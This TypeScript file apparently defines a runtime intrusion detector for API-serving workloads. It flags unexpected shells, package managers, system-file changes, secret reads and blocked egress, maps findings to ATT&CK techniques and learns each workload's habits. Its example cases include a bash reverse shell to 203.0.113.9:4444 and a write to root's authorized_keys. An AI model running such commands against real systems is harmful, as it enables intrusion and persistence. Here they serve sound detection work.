import type { Graph } from '../../../graph/graph.ts'
import { type NodeId, readNodeId } from '../../../graph/node.ts'
import { BoundedMap } from '../../../kit/bounded-map.ts'
import { callId } from '../../../kit/id.ts'
import type { Severity } from '../../../kit/severity.ts'
import { Episode } from '../../episode.ts'
import {
  defineGraphDetector,
  type GraphContext,
  type GraphDetectorRun,
  type GraphFinding,
  type Moment,
} from '../graph-detector.ts'
import { Habits } from '../habits.ts'
import type { Happening, HappeningKind } from '../happening.ts'
import { actorId, dayMs, isSettled, nodeName } from '../node-age.ts'
import { neighbours } from '../sensitive.ts'

interface Rule {
  readonly message: string
  readonly severity: Severity
  readonly confidence: number
  readonly attack: readonly string[]
}

const rules: Partial<Readonly<Record<HappeningKind, Rule>>> = {
  'remote-shell': { message: 'remoteShell', severity: 'high', confidence: 0.9, attack: ['T1059'] },
  shell: { message: 'process', severity: 'medium', confidence: 0.75, attack: ['T1059'] },
  'package-manager': { message: 'process', severity: 'medium', confidence: 0.75, attack: ['T1105'] },
  'network-tool': { message: 'process', severity: 'medium', confidence: 0.7, attack: ['T1105', 'T1046'] },
  'system-write': { message: 'changed', severity: 'medium', confidence: 0.8, attack: ['T1543', 'T1098'] },
  'secret-read': { message: 'readSecret', severity: 'medium', confidence: 0.7, attack: ['T1552'] },
  egress: { message: 'blocked', severity: 'medium', confidence: 0.6, attack: ['T1071'] },
  metadata: { message: 'blocked', severity: 'medium', confidence: 0.75, attack: ['T1552.005'] },
}

/** A shell that starts the program of a container is over with this. */
const startMs = 60_000

class RuntimeInWorkloadRun implements GraphDetectorRun {
  readonly #context: GraphContext
  #habits: Habits
  #episodes: BoundedMap<string, Episode>

  constructor(context: GraphContext) {
    this.#context = context
    this.#habits = new Habits(context.option('workloads'))
    this.#episodes = new BoundedMap(context.option('workloads'))
  }

  observe(moment: Moment): readonly GraphFinding[] {
    const { event } = moment
    if (event.type !== 'runtime') {
      // Flows are blocked by network policies every day; of them only the metadata service counts.
      if (event.type !== 'flow') return []
    }
    const found: GraphFinding[] = []
    for (const happening of moment.happenings) {
      const finding = this.#judge(moment, happening)
      if (finding !== undefined) found.push(finding)
    }
    return found
  }

  size(): number {
    return this.#habits.size + this.#episodes.size
  }

  #judge({ graph, learning, event }: Moment, happening: Happening): GraphFinding | undefined {
    const { kind, workload, time, pod, by } = happening
    const rule = rules[kind]
    if (rule === undefined || workload === undefined) return undefined
    const network = kind === 'egress' || kind === 'metadata'
    if (network && (!happening.refused || (event.type === 'flow' && kind !== 'metadata'))) return undefined
    const detail = happening.detail ?? kind
    const { option, roster, excepted } = this.#context
    // While neither the workload nor what a sensor tells of it is known for long, a shell may be anything.
    const settled = isSettled(graph, workload, time, option('learningDays'))
    const habit = this.#habits.note(
      workload,
      `${kind} ${happening.deed ?? detail}`,
      time,
      !settled || roster.sensorAge(event) < dayMs,
    )
    if (learning || habit || happening.allowed || !serves(graph, workload)) return undefined
    if (excepted(workload, readNodeId(workload)?.name, detail)) return undefined
    const started = pod === undefined ? undefined : roster.podSince(workload, pod)
    const starting =
      started !== undefined && time - started < startMs && roster.rolledOut(workload, time, startMs)
    if (kind === 'shell' && (starting || (!settled && by === undefined))) return undefined
    // Probes are started by the container runtime: who tells of them for the first time tells of all of them.
    const probe = by !== undefined && containerRuntime.test(by)
    if (kind === 'shell' && probe && (!settled || roster.sensorAge(event) < dayMs)) return undefined
    const series = `${workload}\0${kind}`
    const episode = this.#episodes.ensure(series, () => new Episode(time))
    episode.touch(time)
    const certain = kind === 'remote-shell'
    return {
      message: happening.refused && !network ? 'stopped' : rule.message,
      observed: { who: nodeName(workload), what: detail, ...(pod === undefined ? {} : { pod }) },
      expected: { processes: 'a workload that serves an API runs its own program and no other' },
      attempt: happening.refused,
      confidence: settled || certain ? rule.confidence : rule.confidence * 0.7,
      severity: settled || certain ? rule.severity : 'low',
      principal: actorId(workload),
      evidence: [callId(happening.event)],
      key: `${series}\0${episode.from}`,
      subjects: [workload],
      way: [workload],
      attack: rule.attack,
    }
  }

  save() {
    return {
      habits: this.#habits,
      episodes: this.#episodes,
    }
  }

  load(saved: ReturnType<RuntimeInWorkloadRun['save']>): void {
    this.#habits = saved.habits
    this.#episodes = saved.episodes
  }
}

const containerRuntime =
  /^(?:runc|crun|containerd|conmon|docker|kubelet|tini|dumb-init|init|(?:[bd]?a|z|k)?sh)/

/** Does it answer calls, or is it open to the outside? */
const serves = (graph: Graph, workload: NodeId): boolean =>
  neighbours(graph, workload, 'in', 'serves').length > 0 ||
  neighbours(graph, workload, 'in', 'exposes').length > 0 ||
  neighbours(graph, workload, 'in', 'calls').length > 0

export const runtimeInWorkload = defineGraphDetector({
  id: 'runtime-in-workload',
  title: 'A program that has no business in a service',
  summary:
    'Reads what runtime sensors tell of workloads that serve APIs: shells, package managers, tools, changes to system files, connections that were blocked. What a workload did in its first days, or does again and again, is its habit.',
  family: 'runtime',
  severity: 'medium',
  owasp: ['API8:2023'],
  attack: ['T1059', 'T1105', 'T1543', 'T1552', 'T1071'],
  options: {
    learningDays: { default: 7, reason: 'A week shows which probes and scripts belong to a workload.' },
    workloads: { default: 20_000, reason: 'Workloads whose habits are remembered; about 200 deeds each.' },
  },
  exceptions: 'workloads, programs or files',
  messages: {
    process: '{who} ran {what}, which it never does.',
    remoteShell: '{who} ran {what} as a shell on a connection.',
    changed: '{who} changed the system file {what}.',
    readSecret: '{who} read {what}, which holds secrets of others.',
    blocked: '{who} was kept from connecting to {what}.',
    stopped: '{who} was kept from {what}, which it never does.',
  },
  whenNotAnAttack:
    'Somebody looks for a fault in the running pod, or a new image brings a script of its own.',
  examples: {
    fires: [
      `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
wait 8d
shop/orders#orders-7f9c4b6d5-aaaaa runs "/bin/sh -c id"`,
      `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
shop/orders runs "/bin/bash -i >& /dev/tcp/203.0.113.9/4444"`,
      `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
wait 8d
shop/orders changes /root/.ssh/authorized_keys`,
    ],
    quiet: [
      `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
shop/orders runs "/bin/sh -ec pg_isready" every 12h x 20`,
      `shop/nightly-report runs /bin/bash kind=Job
wait 8d
shop/nightly-report runs /bin/bash kind=Job`,
      `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
wait 8d
shop/orders runs /bin/bash outcome=allowed policy=allow-debug-shell`,
    ],
  },
  create: context => new RuntimeInWorkloadRun(context),
})
